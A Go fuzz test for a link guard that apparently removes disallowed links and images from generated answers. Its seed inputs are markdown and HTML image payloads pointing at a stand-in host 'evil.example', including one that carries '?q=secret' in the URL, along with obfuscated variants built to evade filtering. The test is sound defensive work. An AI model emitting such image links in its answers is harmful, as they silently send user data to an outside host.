package answer

import "testing"

// FuzzLinkGuard: on any answer, cut anywhere, the guard lets through the
// same text as when it comes whole, and what it lets through holds
// nothing it would remove: a replacement never forms a new link with the
// text around it (a "]" it leaves before a "(", a label that ends in one).
// go test ./internal/route/answer -run '^$' -fuzz FuzzLinkGuard -fuzztime 60s
func FuzzLinkGuard(f *testing.F) {
	for _, seed := range []string{
		"![chart][r]\n\n[r]: //evil.example/p.png?q=secret",
		"[r]:\n   https:evil.example/p \"t\"\n",
		"![x](\n//evil.example/p.png) ok",
		"![a [b] c](https:evil.example/p)",
		"!![https://a.example](https://b.example)(https:evil.example/p)",
		`<img src="//evil.example/a.png"> <a href=//evil.example>x</a>`,
		"<img\n  src=\"//evil.example/p\"\n  alt=\"x\">",
		"see [the guide](https://docs.acme.example/sync) and //cdn.acme.example/chart.png.",
		"// a comment, a//b, and/or 3 // 4, x < y > z [S1]: Expense",
		"<img[ a](z) src=https:evil.example/p> htt[ps://evil.example](z) [x<](z)img src=//e>",
		"[r]: https:evil.example/p [](z)\n![x][r] ![a\nb](\n<https:evil>)",
		"](<img ](\nevil.example]:?q=1]?q=1]: ]src\\\\)docs.acme.example/sync",
		"![ftp://javascript:](<img https://\n)&#47;>>ht//cdn.acme.example/chart.png\n\n alt=//a\n",
		"' alt=:(htsrc\">![S1\">evil.example//](\\\\S1)//cdn.acme.example/chart.pngx ",
	} {
		f.Add(seed, uint16(len(seed)/2))
	}
	allowed := AllowedLinks{}
	allowed.AddText("[the guide](https://docs.acme.example/sync) //cdn.acme.example/chart.png")
	f.Fuzz(func(t *testing.T, text string, cut uint16) {
		if len(text) > maxLinkHold/2 {
			return // longer forms are judged as they are, by design
		}
		whole, err := guardText(allowed, text)
		if err != nil {
			t.Fatal(err)
		}
		k := int(cut) % (len(text) + 1)
		split, err := guardText(allowed, text[:k], text[k:])
		if err != nil {
			t.Fatal(err)
		}
		if split != whole {
			t.Fatalf("cut at %d: %q, whole: %q", k, split, whole)
		}
		again, err := guardText(allowed, whole)
		if err != nil {
			t.Fatal(err)
		}
		if again != whole {
			t.Fatalf("the guard's output %q still holds what it removes: %q", whole, again)
		}
	})
}
